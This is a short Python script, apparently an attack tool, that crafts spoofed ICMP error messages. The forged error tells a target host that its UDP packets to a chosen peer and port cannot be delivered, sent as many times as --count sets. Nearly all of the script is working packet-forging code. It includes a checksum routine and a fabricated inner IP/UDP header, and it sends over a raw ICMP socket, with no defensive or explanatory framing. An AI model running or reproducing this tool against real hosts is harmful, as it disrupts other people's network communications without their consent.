#!/usr/bin/env python3
"""Tells a host that its UDP packets do not arrive: TYPE CODE HOST PEER PORT, --count of them."""
import argparse
import socket
import struct


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


parser = argparse.ArgumentParser()
parser.add_argument("type", type=int)
parser.add_argument("code", type=int)
parser.add_argument("host")
parser.add_argument("peer")
parser.add_argument("port", type=int)
parser.add_argument("--count", type=int, default=1)
options = parser.parse_args()

inner = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 100, 0, 0, 64, 4, 0, bytes(4), bytes(4))
udp = struct.pack("!HHHH", 40000, options.port, 8 + 100, 0)
ends = socket.inet_aton(options.host), socket.inet_aton(options.peer)
outer = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 128, 0, 0, 64, 17, 0, *ends)
body = bytes(4) + outer + udp + inner
head = struct.pack("!BB", options.type, options.code)
message = head + struct.pack("!H", checksum(head + bytes(2) + body)) + body
with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sock:
    for _ in range(options.count):
        sock.sendto(message, (options.host, 0))
